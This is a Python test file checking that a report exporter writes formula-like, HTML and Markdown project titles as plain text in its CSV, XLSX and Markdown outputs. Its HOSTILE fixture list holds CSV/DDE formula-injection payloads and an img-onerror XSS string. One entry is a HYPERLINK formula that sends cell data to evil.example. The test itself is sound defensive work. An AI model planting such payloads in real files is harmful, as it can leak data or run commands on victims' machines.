"""Security finding 3 and 14: titles that look like spreadsheet formulas or carry HTML and Markdown are written as
text in every regional report file anyone can download (CSV, XLSX, Markdown)."""

import csv
import io

from conftest import index_demo, make_settings
from openpyxl import load_workbook

from reports.export import render
from reports.figures import Scope, build_report

HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
           "=1+2", "-2+3+cmd|' /C calc'!A0", "\t=1+1", '<img src=x onerror="alert(1)">',
           "[click](http://evil.example) ![x](http://evil.example/x.png) **bold**"]


def hostile_report(engines):
    settings = make_settings(*engines)
    index, records = index_demo(settings, 120, seed=77)
    documents = [hit["_source"] for hit in index.client.search(index=index.alias, size=200)["hits"]["hits"]]
    for i, document in enumerate(documents):  # every project gets a hostile title and organisation
        document["title"] = document["organisation"] = HOSTILE[i % len(HOSTILE)]
    index.write(documents)
    index.refresh()
    region = documents[0]["region"]
    return build_report(index, Scope(region, 1990, 2030))


def test_report_files_write_hostile_titles_as_text(engines) -> None:
    report = hostile_report(engines)
    shown = {project.title for project in report.top_projects}
    assert shown & set(HOSTILE), "the top projects must show the hostile titles for this test to mean anything"

    book = load_workbook(io.BytesIO(render(report, "xlsx")))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"], "a formula in the XLSX"
    texts = {c.value for c in cells if isinstance(c.value, str)}
    for title in shown & set(HOSTILE):
        assert ("'" + title if title[0] in "=+-@\t" else title) in texts

    rows = list(csv.reader(io.StringIO(render(report, "csv").decode())))
    dangerous = [value for row in rows for value in row
                 if value[:1] in ("=", "+", "-", "@", "\t", "\r") and not value.lstrip("+-").isdigit()]
    assert not dangerous, dangerous

    markdown = render(report, "md").decode()
    assert "<img" not in markdown and "](" not in markdown and "**bold**" not in markdown
    assert "&lt;img src=x onerror=" in markdown  # shown, as text
